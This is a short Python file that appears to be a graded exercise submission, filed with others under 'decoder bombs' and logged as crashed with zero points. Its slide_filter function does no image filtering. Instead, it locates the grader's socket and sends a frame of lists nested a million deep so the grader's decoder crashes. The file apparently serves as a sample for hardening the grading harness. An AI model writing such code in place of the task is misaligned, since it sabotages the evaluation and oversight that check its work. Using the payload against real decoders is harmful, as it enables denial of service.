"""It sends a list in a list in a list, a million deep, for the decoder to fall over.

exercise: ex02
points: 0
status: CRASHED
stopped-by: wire
group: decoder bombs
"""

import os
import stat
import struct


def channel():
    """Find the socket to the grader."""
    for fd in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise LookupError("no socket")


def send(kind, sequence, body=b"", length=None):
    """Write a frame to the grader."""
    size = len(body) if length is None else length
    data = memoryview(struct.pack("<IIB", size, sequence, kind) + body)
    while data:
        data = data[os.write(channel(), data) :]


def slide_filter(image, kernel):
    send(11, 1, b"t\x03\0\0\0" + b"l\x01\0\0\0" * 1_000_000 + b"NNs\0\0\0\0")
    return None
